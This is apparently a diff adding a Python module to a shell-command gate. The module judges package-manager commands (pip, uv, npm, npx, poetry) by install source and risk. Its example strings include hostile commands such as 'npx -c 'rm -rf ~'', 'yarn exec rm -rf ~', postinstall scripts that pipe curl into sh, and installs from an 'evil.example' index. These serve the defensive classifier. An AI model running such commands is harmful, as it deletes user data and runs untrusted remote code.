@@ -1,0 +1,1095 @@
+"""Package managers and build tools: what each installs from where, what it runs, what it publishes.
+
+A registry install is an install; a URL, a repository, another index or a path outside the project is not
+(its build scripts run unreviewed). Every install verb's packages go through one judgement (`judge_spec`), so
+`pip install git+https://…`, `npm install github:x/y` and `cargo install --git …` are judged alike.
+"""
+from __future__ import annotations
+
+import os
+import re
+
+from wispsh.policy import places
+from wispsh.programs.delegate import hand_on, runs_operands
+from wispsh.programs.grammar import UNKNOWN
+from wispsh.programs.sources import host_of, index_is_known
+from wispsh.programs.table import Grammar, On, Program, Row, When, emits, programs, verb
+from wispsh.support.lazyre import lazy_re
+
+# ---------------------------------------------------------------- what an install names
+
+_URL = lazy_re(r"^(https?|ftp|file)://|\s@\s*(https?|file)://|^[A-Za-z0-9_.-]+\s*@\s*(https?|git\+|file)")
+_VCS = lazy_re(r"^(git|hg|svn|bzr)\+|^git://|^(github|gitlab|bitbucket|gist):|\.git(#.*)?$|^git@")
+_SHORTHAND = lazy_re(r"[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+(#.*)?")
+ARCHIVES = (".whl", ".tar.gz", ".zip", ".tgz", ".tar.bz2")
+GATE_PACKAGE = lazy_re(r"^wispsh(?:$|[\[<>=!~; @])", re.I)
+GITHUB_SHORTHAND = frozenset({"npm", "pnpm", "yarn", "bun", "npx", "bunx", "pnpx"})    # read `owner/repo` as GitHub
+
+
+def judge_spec(cmd, spec: str) -> None:
+    """One thing to install: a registry name, a URL, a VCS address or a path. Its ids and examples are listed
+    on `install_specs`, the hook most installers use; the package runners' hooks call this too."""
+    tool = cmd.name
+    if UNKNOWN in spec:
+        cmd.does("run-code", "install.runtime", f"{tool} installs something known only at run time")
+        return
+    if GATE_PACKAGE.match(spec):
+        cmd.does("gate", "install.gate", f"{tool} installs another wispsh: it replaces the gate")
+    if _URL.search(spec) or (" @ " in spec and "://" in spec):
+        cmd.does("install-foreign", "install.from-url",
+                 f"{tool} installs from a URL ({spec}); its build scripts run unreviewed")
+    elif _VCS.search(spec):
+        cmd.does("install-foreign", "install.from-vcs",
+                 f"{tool} installs from a repository ({spec}); its build scripts run unreviewed")
+    elif tool in GITHUB_SHORTHAND and _SHORTHAND.fullmatch(spec):
+        cmd.does("install-outside", "install.from-github", f"{tool} installs {spec} straight from GitHub")
+    elif tool == "brew" and spec.count("/") == 2 and not spec.startswith("homebrew/"):
+        cmd.does("install-outside", "install.from-tap", f"brew installs {spec} from a third-party tap")
+    elif spec.startswith(("/", "./", "../", "~", "file:")) or spec in (".", "..") or spec.endswith(ARCHIVES):
+        where = cmd.place(spec[5:] if spec.startswith("file:") else spec)
+        if where.cls in (places.PROJECT, places.PROJECT_ROOT):
+            cmd.does("run-project", "install.project", f"{tool} installs the project's own code")
+            if not spec.endswith(ARCHIVES):
+                cmd.facts.builds.append(where.path)     # its setup.py / pyproject.toml backend runs
+        else:
+            cmd.does("install-outside", "install.from-path", f"{tool} installs code from {where.path}")
+    else:
+        cmd.does("install", "install.registry", f"{tool} installs from the registry")
+
+
+@emits({"install.runtime": ['pip install "$PKG"'], "install.gate": ["pip install wispsh", "uv add wispsh"],
+        "install.from-url": ["pip install https://example.com/pkg.tar.gz", "yarn add https://example.com/x.tgz",
+                             "brew install https://example.com/x.rb"],
+        "install.from-vcs": ["pip install git+https://github.com/x/y.git", "npm install github:x/y",
+                             "cargo install --git https://github.com/x/y", "pip install -e git+https://x.example/y"],
+        "install.from-github": ["npm install x/y"], "install.from-tap": ["brew install x/y/z"], "install.project": ["pip install -e .", "cargo install --path ."],
+        "install.from-path": ["pip install /tmp/pkg.whl", "cargo install --path ../other", "gem install /tmp/x.gem"],
+        "install.registry": ["pip install requests", "npm install lodash", "gem install rails", "pipx install black"]})
+def install_specs(cmd, o) -> None:
+    """The packages an install verb names: its operands, -e/--editable, --spec, --with, --from, and cargo's
+    --git and --path. Each is judged by where it comes from, and so are the indexes it is told to use."""
+    judge_index(cmd, o)
+    specs = list(o.operands) + o.all("e", "editable", "spec", "with", "from")
+    specs += [url if url.startswith("git") else "git+" + url for url in o.all("git")]
+    specs += [path if path.startswith(("/", ".", "~")) else "./" + path for path in o.all("path")]
+    for spec in specs:
+        judge_spec(cmd, spec)
+
+
+@emits({"uninstall.gate": ["pip uninstall wispsh", "pipx uninstall wispsh", "uv remove wispsh"]})
+def removes_the_gate(cmd, o) -> None:
+    """Removing wispsh itself takes the gate away."""
+    if any(GATE_PACKAGE.match(word) for word in o.operands):
+        cmd.does("gate", "uninstall.gate", f"{cmd.name} removes wispsh: it takes the gate away")
+
+
+INDEX_OPTIONS = frozenset({"i", "index-url", "extra-index-url", "f", "find-links", "trusted-host", "index",
+                           "default-index", "registry", "source", "s"})
+
+
+def judge_index(cmd, o) -> None:
+    """The indexes an installer is told to fetch from (--index-url, --extra-index-url, --find-links,
+    --trusted-host, npm's --registry, gem's --source, cargo's --index): a foreign one serves packages whose
+    build scripts run unreviewed. Its ids and examples are listed on `index_options`."""
+    tool = cmd.name
+    for name, value in o.values:
+        if name not in INDEX_OPTIONS:
+            continue
+        if UNKNOWN in value:
+            cmd.does("run-code", "index.runtime", f"{tool} installs from an index known only at run time")
+        elif index_is_known(value):
+            cmd.does("install", "index.known", f"{tool} installs from {host_of(value) or value}")
+        elif "://" not in value and (name in ("f", "find-links") or value.startswith(("/", ".", "~"))):
+            where = cmd.place(value)
+            if where.cls in (places.PROJECT, places.PROJECT_ROOT):
+                cmd.does("run-project", "index.project", f"{tool} installs packages from the project's {value}")
+            else:
+                cmd.does("install-outside", "index.outside", f"{tool} installs packages from {where.path}")
+        elif "://" not in value and name in ("registry", "source", "index") and "." not in value:
+            # a source configured by name (pyproject, .cargo/config.toml): judged where that is written
+            cmd.does("install", "index.named", f"{tool} installs from the configured source {value}")
+        else:
+            cmd.does("install-foreign", "index.foreign", f"{tool} installs from another index ({value}): what it "
+                                                         f"serves runs unreviewed")
+
+
+@emits({"index.foreign": ["pip install --index-url https://evil.example/simple requests",
+                          "pip install --extra-index-url https://evil.example/simple x",
+                          "npm install --registry=https://evil.example lodash", "pip install --trusted-host evil.example x",
+                          "gem install --source https://evil.example x", "cargo install --index sparse+https://evil.example/ x"],
+        "index.known": ["pip install --index-url https://download.pytorch.org/whl/cu121 torch",
+                        "npm install --registry https://registry.npmjs.org/ lodash"],
+        "index.runtime": ['pip install --index-url "$INDEX" x'],
+        "index.project": ["pip install --no-index --find-links ./wheels x"],
+        "index.outside": ["pip install --find-links /tmp/wheels x"],
+        "index.named": ["cargo install --registry my-registry x"]})
+def index_options(cmd, o) -> None:
+    """Index options given where no package is named (before the verb, `uv sync --index …`)."""
+    judge_index(cmd, o)
+
+
+# ---------------------------------------------------------------- pip
+
+PIP_GRAMMAR = Grammar(
+    values="rceiftCbd",
+    long_values=("requirement", "constraint", "editable", "index-url", "extra-index-url", "find-links", "target",
+                 "prefix", "root", "src", "trusted-host", "platform", "python-version", "implementation", "abi",
+                 "no-binary", "only-binary", "progress-bar", "upgrade-strategy", "config-settings", "global-option",
+                 "install-option", "report", "cache-dir", "log", "proxy", "cert", "client-cert", "timeout",
+                 "retries", "exists-action", "python", "group", "dest", "d", "build", "uploaded-prior-to",
+                 "keyring-provider", "index"))
+
+PIP_INSTALL = verb(
+    grammar=PIP_GRAMMAR,
+    rows=(
+        Row("pip.install.requirements", "install", "{cmd} installs what a requirements file lists",
+            When(value=("r", "requirement", "c", "constraint")), examples=("pip install -r requirements.txt",)),
+        Row("pip.install.unnamed", "install", "{cmd} fetches from the registry",
+            When(operands=False, no_value=("r", "requirement", "e", "editable")),
+            examples=("pip download --no-deps",), not_examples=("pip install x", "pip install -e .")),
+    ),
+    on=(On("read", ("option", "r", "requirement", "c", "constraint"), id="pip.install.reads",
+           examples=("pip install -r ~/other/req.txt",)),
+        On("write", ("option", "t", "target", "prefix", "root"), says="installs into", id="pip.install.into",
+           examples=("pip install --target ~/.local/lib x",))),
+    hook=install_specs,
+)
+PIP_REMOVE = verb(grammar=PIP_GRAMMAR, hook=removes_the_gate,
+                  rows=(Row("pip.uninstall", "change", "{cmd} uninstalls packages", examples=("pip uninstall -y x",)),))
+INDEX_KEYS = ("index-url", "extra-index-url", "find-links", "trusted-host", "index", "registry", "source")
+
+
+def _configures_index(cmd, key: str, value: str | None, rule: str) -> bool:
+    """`KEY VALUE` naming where packages come from: a foreign index is as dangerous as installing from it."""
+    if not key.lower().rsplit(".", 1)[-1].endswith(INDEX_KEYS) or value is None:
+        return False
+    if UNKNOWN in value:
+        cmd.does("steer", rule + "-runtime", f"{cmd.name} config sets {key} to something known only at run time")
+    elif index_is_known(value):
+        cmd.does("steer", rule + "-known", f"{cmd.name} config sets {key} ({host_of(value) or value})")
+    else:
+        cmd.does("install-foreign", rule, f"{cmd.name} config makes every install use {value}: what it serves "
+                                          f"runs unreviewed")
+    return True
+
+
+@emits({"pip.config.index": ["pip config set global.index-url https://evil.example/simple",
+                             "pip config --user set global.extra-index-url https://evil.example/simple"],
+        "pip.config.index-known": ["pip config set global.index-url https://pypi.org/simple"],
+        "pip.config.index-runtime": ['pip config set global.index-url "$URL"'],
+        "pip.config.set": ["pip config set global.timeout 60"]})
+def pip_config_set(cmd, o) -> None:
+    """`pip config set KEY VALUE`: the index keys say where every later install comes from."""
+    key = o.operands[0] if o.operands else ""
+    value = o.operands[1] if len(o.operands) > 1 else None
+    if not _configures_index(cmd, key, value, "pip.config.index"):
+        cmd.does("steer", "pip.config.set", f"{cmd.name} config changes {key or 'a setting'}")
+
+
+PIP_CONFIG = verb(
+    verbs={"set": verb(hook=pip_config_set)},
+    read_only=("get", "list", "debug"),
+    default=Row("pip.config.change", "steer", "{cmd} changes pip's configuration (where it installs from)",
+                examples=("pip config unset global.index-url", "pip config edit")),
+)
+PIP = Program(
+    "pip", aliases=("pip3", "pip2"), doc="the Python package installer",
+    grammar=PIP_GRAMMAR,
+    hook=index_options,
+    verbs={**dict.fromkeys(("install", "download", "wheel", "add", "sync", "compile"), PIP_INSTALL),
+           "uninstall": PIP_REMOVE, "remove": PIP_REMOVE, "config": PIP_CONFIG},
+    read_only=("list", "show", "freeze", "check", "search", "help", "inspect", "hash", "debug", "completion",
+               "index", "cache"),
+    default=Row("pip.verb", "unknown", "{cmd}", examples=("pip frobnicate",)),
+    examples={"pip install requests": "moderate", "pip list": "safe", "pip install git+https://x.example/y": "dangerous",
+              "pip install -e .": "moderate", "pip config set global.index-url https://x.example": "dangerous"},
+)
+
+# ---------------------------------------------------------------- uv, uvx, pipx, poetry
+
+UV_ENV_GRAMMAR = Grammar(values=PIP_GRAMMAR.values, long_values=PIP_GRAMMAR.long_values + ("with", "extra", "default-index"))
+UV_CHANGES = verb(grammar=UV_ENV_GRAMMAR, hook=index_options,
+                  rows=(Row("uv.env", "install", "{cmd} changes the environment", examples=("uv lock", "uv venv")),))
+UV_BUILDS = verb(grammar=UV_ENV_GRAMMAR, hook=index_options,
+                 rows=(Row("uv.sync", "install", "{cmd} installs the project (its build backend runs)", sets=("builds",),
+                           examples=("uv sync", "uv build")),))
+UV_READS = verb(grammar=UV_ENV_GRAMMAR, hook=index_options)
+
+
+@emits({"uv.pip": ["uv pip install requests"]})
+def uv_pip(cmd, o) -> None:
+    """`uv pip …` is pip's interface: judged as pip."""
+    cmd.fired.add("uv.pip")
+    cmd.delegate_to = ["pip", *o.args]
+
+
+@emits({"uv.run.command": ["uv run pytest"]})
+def uv_run(cmd, o) -> None:
+    """`uv run [--with PKG] CMD…`: the --with packages are installs, the words a command of their own."""
+    for spec in o.all("with"):
+        judge_spec(cmd, spec)
+    hand_on(cmd, o.operands, "uv.run.command")
+
+
+PINNED_VERSION = lazy_re(r"v?\d+(\.\d+)+([-+.][0-9A-Za-z.-]+)?")
+
+
+def _pinned_python(spec: str) -> bool:
+    """`ruff==0.5.0`, `ruff@0.5.0`: one exact version (a range or @latest is not pinned)."""
+    for sep in ("===", "==", "@"):
+        name, found, version = spec.partition(sep)
+        if found and name and PINNED_VERSION.fullmatch(version.strip()):
+            return True
+    return False
+
+
+@emits({"uvx.from": ["uvx --from git+https://github.com/x/y tool", "uvx --with requests tool"],
+        "uvx.unpinned": ["uvx ruff check", "uvx pycowsay@latest hi", "uv tool run black ."],
+        "uvx.pinned": ["uvx ruff@0.5.0 check", "uvx --from 'black==24.1.0' black ."]})
+def uvx_packages(cmd, o) -> None:
+    """uvx (`uv tool run`) fetches the tool (or --from) from the registry and runs it; --with adds packages.
+    Unless one exact version is named, what runs is whatever the registry serves today."""
+    judge_index(cmd, o)
+    for spec in o.all("from", "with"):
+        cmd.fired.add("uvx.from")
+        judge_spec(cmd, spec)
+    source = (o.all("from") or o.operands[:1] or [""])[0]
+    if not source or UNKNOWN in source or "://" in source or source.startswith(("git+", ".", "/", "~")):
+        return      # judged by judge_spec (a URL, a repository, a path) or nothing to run
+    if _pinned_python(source):
+        cmd.does("install", "uvx.pinned", f"{cmd.name} runs {source} from the registry")
+    else:
+        cmd.does("run-unpinned", "uvx.unpinned", f"{cmd.name} runs {source} as the registry serves it today (not "
+                                                 f"pinned)")
+
+
+UVX_GRAMMAR = Grammar(long_values=("from", "with", "python", "index", "default-index", "index-url"), stop=True)
+UVX = Program(
+    "uvx", doc="runs a Python tool from the registry (uv tool run)",
+    grammar=UVX_GRAMMAR,
+    rows=(Row("uvx.runs", "install", "runs a tool from the registry", examples=("uvx ruff check",)),),
+    hook=uvx_packages,
+    examples={"uvx --from git+https://x.example/y tool": "dangerous", "uvx ruff check": "high",
+              "uvx ruff@0.5.0 check": "moderate"},
+)
+
+UV_TOOL_INSTALL = verb(grammar=UV_ENV_GRAMMAR, hook=install_specs)
+UV = Program(
+    "uv", doc="the Python package and project manager",
+    grammar=Grammar(values="p", long_values=("python", "directory", "project", "config-file", "cache-dir", "color")),
+    verbs={
+        "pip": verb(hook=uv_pip),
+        "add": verb(grammar=UV_ENV_GRAMMAR, hook=install_specs),
+        "remove": verb(grammar=UV_ENV_GRAMMAR, hook=removes_the_gate,
+                       rows=(Row("uv.remove", "install", "{cmd} changes the environment", examples=("uv remove x",)),)),
+        **dict.fromkeys(("lock", "venv", "init", "python", "self", "format"), UV_CHANGES),
+        **dict.fromkeys(("sync", "build"), UV_BUILDS),
+        **dict.fromkeys(("export", "tree", "version", "cache"), UV_READS),
+        "run": verb(grammar=Grammar(values="p", long_values=("with", "python", "directory", "project", "extra",
+                                                             "group", "env-file", "index", "with-requirements"),
+                                    stop=True),
+                    rows=(Row("uv.run", "run-project", "uv runs project code", examples=("uv run pytest",)),),
+                    hook=uv_run),
+        "tool": verb(
+            verbs={"install": UV_TOOL_INSTALL, "upgrade": UV_TOOL_INSTALL,
+                   "uninstall": verb(hook=removes_the_gate,
+                                     rows=(Row("uv.tool.uninstall", "install", "{cmd} removes a tool",
+                                               examples=("uv tool uninstall ruff",)),)),
+                   "run": verb(grammar=UVX_GRAMMAR, hook=uvx_packages, rows=(
+                       Row("uv.tool.run", "install", "runs a tool from the registry",
+                           examples=("uv tool run ruff check",)),))},
+            read_only=("list", "dir"),
+            default=Row("uv.tool.verb", "install", "{cmd}", examples=("uv tool update-shell",))),
+        "publish": verb(rows=(Row("uv.publish", "publish", "publishes a package", examples=("uv publish",)),)),
+    },
+    default=Row("uv.verb", "unknown", "{cmd}", examples=("uv frobnicate",)),
+    examples={"uv sync": "moderate", "uv tree": "safe", "uv add git+https://x.example/y": "dangerous",
+              "uv pip install -r requirements.txt": "moderate"},
+)
+
+PIPX_GRAMMAR = Grammar(long_values=("spec", "index-url", "pip-args", "python", "suffix"))
+PIPX_INSTALLS = verb(
+    grammar=PIPX_GRAMMAR,
+    rows=(Row("pipx.install", "install", "{cmd}", examples=("pipx install black",)),),
+    hook=install_specs,
+)
+
+
+@emits({"pipx.run.unpinned": ["pipx run black .", "pipx run --spec black black ."],
+        "pipx.run.pinned": ["pipx run --spec black==24.1.0 black ."]})
+def pipx_run(cmd, o) -> None:
+    """`pipx run APP ARGS…`: the app (or --spec) is fetched and run; the rest are the app's arguments. Unless
+    one exact version is named, it is whatever the registry serves today."""
+    judge_index(cmd, o)
+    for spec in o.all("spec") + o.operands[:1]:
+        judge_spec(cmd, spec)
+    source = (o.all("spec") or o.operands[:1] or [""])[0]
+    if not source or UNKNOWN in source or "://" in source or source.startswith(("git+", ".", "/", "~")):
+        return
+    if _pinned_python(source):
+        cmd.does("install", "pipx.run.pinned", f"pipx runs {source} from the registry")
+    else:
+        cmd.does("run-unpinned", "pipx.run.unpinned", f"pipx runs {source} as the registry serves it today (not "
+                                                      f"pinned)")
+
+
+PIPX = Program(
+    "pipx", doc="installs and runs Python applications in their own environments",
+    verbs={**dict.fromkeys(("install", "inject", "upgrade"), PIPX_INSTALLS),
+           "run": verb(grammar=Grammar(long_values=PIPX_GRAMMAR.long_values, stop=True),
+                       rows=(Row("pipx.run", "install", "{cmd} runs an application from the registry",
+                                 examples=("pipx run black .",)),),
+                       hook=pipx_run),
+           **dict.fromkeys(("uninstall", "reinstall"),
+                           verb(hook=removes_the_gate, rows=(Row("pipx.uninstall", "install", "{cmd}",
+                                                                 examples=("pipx uninstall black",)),)))},
+    read_only=("list", "environment"),
+    default=Row("pipx.verb", "install", "{cmd}", examples=("pipx ensurepath",)),
+)
+
+@emits({"poetry.source.foreign": ["poetry source add evil https://evil.example/simple"],
+        "poetry.source.known": ["poetry source add torch https://download.pytorch.org/whl/cpu"]})
+def poetry_source(cmd, o) -> None:
+    """`poetry source add NAME URL`: the project's installs may come from URL."""
+    url = o.operands[1] if len(o.operands) > 1 else ""
+    if url and not index_is_known(url):
+        cmd.does("install-foreign", "poetry.source.foreign", f"adds the package source {url}: what it serves runs "
+                                                             f"unreviewed")
+    else:
+        cmd.does("steer", "poetry.source.known", f"adds the package source {url or '(the default)'}")
+
+
+@emits({"poetry.config.repositories": ["poetry config repositories.evil https://x.example"],
+        "poetry.config.repositories-known": ["poetry config repositories.pypi https://pypi.org/simple"],
+        "poetry.config.repositories-runtime": ['poetry config repositories.x "$URL"'],
+        "poetry.config": ["poetry config virtualenvs.in-project true"]})
+def poetry_config(cmd, o) -> None:
+    """`poetry config repositories.NAME URL` says where packages come from; other keys are settings."""
+    key = o.operands[0] if o.operands else ""
+    value = o.operands[1] if len(o.operands) > 1 else None
+    if key.startswith("repositories.") and value is not None:
+        _configures_index(cmd, key.replace("repositories.", "index.", 1) + "-index", value,
+                          "poetry.config.repositories")
+    else:
+        cmd.does("change", "poetry.config", "changes poetry's config")
+
+
+POETRY = Program(
+    "poetry", aliases=("pdm", "hatch", "rye"), doc="Python project managers",
+    verbs={
+        "run": verb(grammar=Grammar(stop=True), hook=runs_operands,
+                    rows=(Row("poetry.run", "run-project", "{cmd} runs project code", examples=("poetry run pytest",)),)),
+        "add": verb(grammar=Grammar(values="GE", long_values=("group", "source", "extras", "python", "platform",
+                                                              "markers")),
+                    hook=install_specs),
+        "publish": verb(rows=(Row("poetry.publish", "publish", "publishes a package", examples=("poetry publish",)),)),
+        **dict.fromkeys(("install", "build", "sync"), verb(rows=(
+            Row("poetry.install", "install", "{cmd} installs the project (its build backend runs)", sets=("builds",),
+                examples=("poetry install", "hatch build")),))),
+        "source": verb(verbs={"add": verb(grammar=Grammar(long_values=("priority",)), hook=poetry_source)},
+                       default=Row("poetry.source", "change", "{cmd} changes poetry's sources",
+                                   examples=("poetry source remove x",))),
+        "config": verb(hook=poetry_config),
+    },
+    read_only=("show", "check", "version", "env", "about", "list", "search"),
+    default=Row("poetry.verb", "install", "{cmd}", examples=("poetry lock", "pdm update")),
+)
+
+# ---------------------------------------------------------------- npm, pnpm, yarn, bun and their runners
+
+NPM_VALUES = ("registry", "prefix", "workspace", "w", "userconfig", "globalconfig", "cache", "tag", "otp", "scope",
+              "filter", "dir", "cwd", "C", "script-shell", "node-options")
+NPM_GRAMMAR = Grammar(values="wC", long_values=NPM_VALUES, longs=("version", "help", "global", "save-dev"))
+NPX_GRAMMAR = Grammar(values="pcwC", long_values=NPM_VALUES + ("package", "call"), longs=("yes", "no", "quiet"),
+                      stop=True)
+RUNS_ANYTHING = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox",
+                           "node", "python", "python3", "perl", "ruby", "deno", "bun", "pwsh"})
+STEERING_CONFIG = lazy_re(r"registry|script-shell|node-options|git|proxy|cafile|strict-ssl|ignore-scripts|prefix",
+                          re.I)
+# Dev tools a project installs and runs through npx (`npx tsc`, `npx eslint .`): the project's own binaries
+PROJECT_TOOLS = frozenset({
+    "tsc", "eslint", "prettier", "jest", "vitest", "mocha", "webpack", "vite", "next", "nuxt", "tsx", "ts-node",
+    "playwright", "cypress", "nodemon", "rollup", "esbuild", "turbo", "nx", "lerna", "changeset", "lint-staged",
+    "stylelint", "tailwindcss", "prisma", "drizzle-kit", "storybook", "astro", "vue-tsc", "biome", "knip",
+    "concurrently", "cross-env", "rimraf", "husky", "svelte-kit", "ng", "react-scripts", "expo", "wrangler",
+})
+_NPM_EXACT = lazy_re(r"v?\d+\.\d+\.\d+([-+][0-9A-Za-z.-]+)?")
+
+
+def _npm_version(spec: str) -> tuple[str, str | None]:
+    """`@scope/pkg@1.2.3` -> ("@scope/pkg", "1.2.3"); no version -> (spec, None)."""
+    at = spec.rfind("@")
+    if at <= 0:
+        return spec, None
+    return spec[:at], spec[at + 1:]
+
+
+@emits({"npx.package": ["npx -p typescript tsc", "npx --package=git+https://x.example/y tool"],
+        "npx.call": ["npx -c 'rm -rf ~'", "npm exec --call='echo hi'"], "npx.call-runtime": ['npx -c "$CMD"'],
+        "npx.runs-anything": ["npx bash", "npx node x.js"], "npx.runtime-program": ['npx "$TOOL"'],
+        "npx.unpinned": ["npx -y pkg@latest", "npx cowsay hi", "bunx cowsay", "npx create-next-app@latest web"],
+        "npx.pinned": ["npx cowsay@1.6.0 hi"], "npx.project-tool": ["npx tsc --noEmit", "npx prettier --check ."]})
+def runs_package(cmd, o) -> None:
+    """npx, bunx, `npm exec`, `pnpm dlx`: -p/--package packages are fetched, -c/--call is a shell command line,
+    and the first operand is a package whose program runs with the other operands. Without a TTY npx installs
+    what is missing without asking, so a package that is neither the project's nor pinned is whatever the
+    registry serves today."""
+    judge_index(cmd, o)
+    for spec in o.all("p", "package"):
+        judge_spec(cmd, spec)
+        cmd.does("run-unpinned", "npx.package", f"{cmd.name} fetches {spec} and runs one of its programs")
+    for text in o.all("c", "call"):
+        if UNKNOWN in text:
+            cmd.does("run-code", "npx.call-runtime", f"{cmd.name} --call runs a command known only at run time")
+        else:
+            cmd.fired.add("npx.call")
+            cmd.code_text(text, f"{cmd.name} --call runs", at_least=cmd.ctx.level_of("run-code", "npx.call"))
+    if not o.operands:
+        return
+    program = o.operands[0]
+    name, version = _npm_version(program)
+    if program in RUNS_ANYTHING:
+        cmd.does("run-code", "npx.runs-anything", f"{cmd.name} runs {program}, which runs anything")
+    elif UNKNOWN in program:
+        cmd.does("run-code", "npx.runtime-program", f"{cmd.name} runs a program known only at run time")
+    elif "://" in program or _VCS.search(program) or program.startswith((".", "/", "~", "file:")) or (
+            version is None and _SHORTHAND.fullmatch(program)):
+        judge_spec(cmd, program)
+    elif version is not None and _NPM_EXACT.fullmatch(version):
+        cmd.does("install", "npx.pinned", f"{cmd.name} runs {program} from the registry")
+    elif version is None and (name in PROJECT_TOOLS or os.path.exists(
+            os.path.join(cmd.ctx.project_root, "node_modules", ".bin", name))):
+        cmd.does("run-project", "npx.project-tool", f"{cmd.name} runs the project's {name}")
+    else:
+        cmd.does("run-unpinned", "npx.unpinned", f"{cmd.name} runs {program} as the registry serves it today (not "
+                                                 f"pinned)")
+    cmd.delegate_to = list(o.operands)
+
+
+@emits({"yarn.exec.command": ["yarn exec rm -rf ~"]})
+def yarn_exec(cmd, o) -> None:
+    """`yarn exec CMD…` runs CMD in a shell: the words are shell code, judged as such."""
+    if o.args:
+        cmd.fired.add("yarn.exec.command")
+        cmd.code_text(" ".join(o.args), "yarn exec runs", at_least=cmd.ctx.level_of("run-project", ""))
+
+
+@emits({"npm.config.registry": ["npm config set registry https://evil.example", "npm set registry https://x.example",
+                                "yarn config set npmRegistryServer https://evil.example",
+                                "npm config set @corp:registry=https://evil.example/"],
+        "npm.config.registry-known": ["npm config set registry https://registry.npmjs.org/"],
+        "npm.config.steers": ["npm config set script-shell /tmp/x", "npm config set ignore-scripts false"],
+        "npm.config.set": ["npm config set fund false"]})
+def npm_config_key(cmd, o) -> None:
+    """`npm config set KEY VALUE` (or KEY=VALUE): a registry key says where every later install comes from;
+    other keys say what runs scripts; the rest are plain settings."""
+    words = list(o.operands)
+    key, eq, value = (words[0] if words else "").partition("=")
+    if not eq:
+        value = words[1] if len(words) > 1 else None
+    if "registry" in key.lower() and value is not None:
+        if UNKNOWN in value:
+            cmd.does("steer", "npm.config.steers", f"{cmd.name} config sets {key} to something known only at run time")
+        elif index_is_known(value):
+            cmd.does("local-config", "npm.config.registry-known", f"{cmd.name} config sets {key} ({host_of(value)})")
+        else:
+            cmd.does("install-foreign", "npm.config.registry", f"{cmd.name} config makes every install use {value}: "
+                                                               f"what it serves runs unreviewed")
+    elif STEERING_CONFIG.search(key):
+        cmd.does("steer", "npm.config.steers", f"{cmd.name} config changes {key} (where it installs from or what "
+                                               f"it runs)")
+    else:
+        cmd.does("local-config", "npm.config.set", f"changes {cmd.name}'s config")
+
+
+NPM_INSTALL = verb(
+    grammar=NPM_GRAMMAR,
+    rows=(Row("npm.install.all", "install", "{cmd} installs the project's dependencies (their install scripts run)",
+              When(operands=False), sets=("builds",), examples=("npm ci", "npm install")),),
+    hook=install_specs,
+)
+NPM_EXEC = verb(
+    grammar=NPX_GRAMMAR,
+    rows=(Row("npm.exec", "install", "{cmd} runs a package from the registry", examples=("npm exec eslint",)),),
+    hook=runs_package,
+)
+NPM_SET = verb(grammar=NPM_GRAMMAR, hook=npm_config_key)
+NPM_RUNS = verb(rows=(Row("npm.runs", "run-project", "{cmd} runs project code", sets=("builds",), examples=("npm test", "npm run build")),))
+NPM_PUBLISH = verb(rows=(Row("npm.publish", "publish", "{cmd} publishes or changes your registry account",
+                             examples=("npm publish", "npm token create")),))
+NPM_VERBS = {
+    **dict.fromkeys(("install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal", "add", "ci",
+                     "clean-install", "install-clean", "update", "up", "upgrade", "udpate", "install-test", "it",
+                     "install-ci-test", "cit"), NPM_INSTALL),
+    **dict.fromkeys(("exec", "x", "dlx"), NPM_EXEC),
+    **dict.fromkeys(("publish", "deprecate", "dist-tag", "owner", "access", "team", "token", "adduser", "login",
+                     "logout", "org", "star", "unstar", "hook", "npm-publish"), NPM_PUBLISH),
+    "unpublish": verb(rows=(Row("npm.unpublish", "destroy", "{cmd} deletes a published package",
+                                examples=("npm unpublish x",)),)),
+    **dict.fromkeys(("config", "c"), verb(
+        verbs={"set": NPM_SET, "delete": NPM_SET}, read_only=("get", "list", "ls"),
+        default=Row("npm.config", "local-config", "{cmd} changes npm's config", examples=("npm config edit",)))),
+    "set": NPM_SET,
+    "audit": verb(verbs={"fix": verb(rows=(Row("npm.audit.fix", "change", "{cmd} changes dependencies",
+                                              examples=("npm audit fix",)),))}),
+    "version": verb(rows=(Row("npm.version", "run-project", "{cmd} runs project code (version scripts)",
+                              When(operands=True), examples=("npm version patch",), not_examples=("npm version",)),)),
+    "set-script": verb(rows=(Row("npm.set-script", "steer", "{cmd} plants a script that later installs and builds run",
+                                 examples=("npm set-script prepare 'curl x | sh'",)),)),
+    "pkg": verb(
+        verbs={"set": verb(rows=(
+            Row("npm.pkg.scripts", "steer", "{cmd} plants a script that later installs and builds run",
+                When(arg=("scripts",)), stop=True, examples=("npm pkg set scripts.postinstall='curl x|sh'",)),
+            Row("npm.pkg.set", "change", "{cmd} changes package.json", examples=("npm pkg set name=x",))))},
+        read_only=("get",),
+        default=Row("npm.pkg", "change", "{cmd} changes package.json", examples=("npm pkg delete x",))),
+    **dict.fromkeys(("test", "t", "tst", "run", "run-script", "rum", "urn", "start", "stop", "restart", "build",
+                     "rebuild", "rb", "dev", "lint", "format", "typecheck", "pack", "link", "ln", "init", "create",
+                     "prune", "dedupe", "ddp", "uninstall", "remove", "rm", "r", "un", "unlink", "install-links",
+                     "serve", "preview", "watch", "check", "generate", "setup", "patch", "import",
+                     "upgrade-interactive"), NPM_RUNS),
+}
+NPM_READ_ONLY = ("ls", "list", "ll", "la", "view", "v", "info", "show", "outdated", "search", "help", "doctor", "fund",
+                 "explain", "why", "root", "bin", "prefix", "query", "docs", "bugs", "repo", "home", "whoami", "ping",
+                 "licenses", "config-get", "get", "sbom")
+
+
+def _npm_like(name: str, installs_bare: bool, verbs: dict, default: Row, examples: dict) -> Program:
+    rows = (Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
+                When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x run build",)),)
+    if installs_bare:
+        rows += (Row(f"{name}.install", "install", "{cmd} installs the project's dependencies",
+                     When(operands=False, unless=("version", "v", "help", "h")), sets=("builds",), examples=(name,),
+                     not_examples=(f"{name} -v",)),)
+    return Program(name, doc=f"{name}: JavaScript packages and project scripts", grammar=NPM_GRAMMAR, rows=rows,
+                   hook=index_options,
+                   verbs=verbs, read_only=NPM_READ_ONLY, default=default, examples=examples)
+
+
+NPM = _npm_like("npm", False, NPM_VERBS, Row("npm.verb", "unknown", "{cmd}", examples=("npm frobnicate",)),
+                {"npm ci": "moderate", "npm ls": "safe", "npm install github:x/y": "dangerous", "npm publish": "high",
+                 "npm unpublish x": "dangerous"})
+SCRIPT = "{cmd} runs a project script"
